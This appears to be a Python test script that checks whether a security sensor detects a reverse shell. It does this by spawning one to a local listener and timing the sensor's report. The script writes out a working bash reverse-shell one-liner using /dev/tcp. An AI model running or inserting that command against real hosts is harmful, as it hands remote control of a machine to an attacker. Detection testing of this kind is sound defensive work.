"""Inside a pocket: `inborn sensor` watches while a shell gets a socket for its streams. Prints what was told.

Argument: a file that is made once the sensor watches; and nothing is done before `FILE.go` is there, if `FILE.wait` is.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

seen: list[tuple[float, dict]] = []


def read(stream) -> None:
    for line in stream:
        seen.append((time.monotonic(), json.loads(line)))


def shells() -> list[tuple[float, dict]]:
    return [(at, event) for at, event in seen if event["class_uid"] == 1003 and event["kernel"]["name"] == "dup"]


def commands() -> list[str]:
    """Those of the programs that were started."""
    return [event["process"].get("cmd_line", "") for _, event in seen if event["type_uid"] == 100701]


ready = Path(sys.argv[1])
begun = time.monotonic()
sensor = subprocess.Popen(["inborn", "sensor", "--print"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
threading.Thread(target=read, args=(sensor.stdout,), daemon=True).start()
while not any("/bin/sleep 0.5" in command for command in commands()):
    # Until it tells of a program that was started: then it watches.
    subprocess.run(["/bin/sleep", "0.5"], check=True)
    assert time.monotonic() - begun < 60, "the sensor tells nothing"
ready.touch()
while ready.with_suffix(".wait").exists() and not ready.with_suffix(".go").exists():
    time.sleep(0.05)
listener = socket.create_server(("127.0.0.1", 0))
port = listener.getsockname()[1]
started = time.monotonic()
shell = subprocess.Popen(["bash", "--norc", "-c", f"bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"])
attacker, _ = listener.accept()
while not shells() and time.monotonic() - started < 10:
    time.sleep(0.02)
told = shells()
attacker.sendall(b"exit\n")
shell.wait(10)
time.sleep(1.2)
sensor.terminate()
errors = sensor.stderr.read()
result = {
    "seconds": told[0][0] - started if told else None,
    "shell": told[0][1] if told else None,
    "port": port,
    "pid": os.getpid(),
    "commands": commands(),
    "status": sensor.wait(10),
    "errors": errors,
}
print(json.dumps(result))
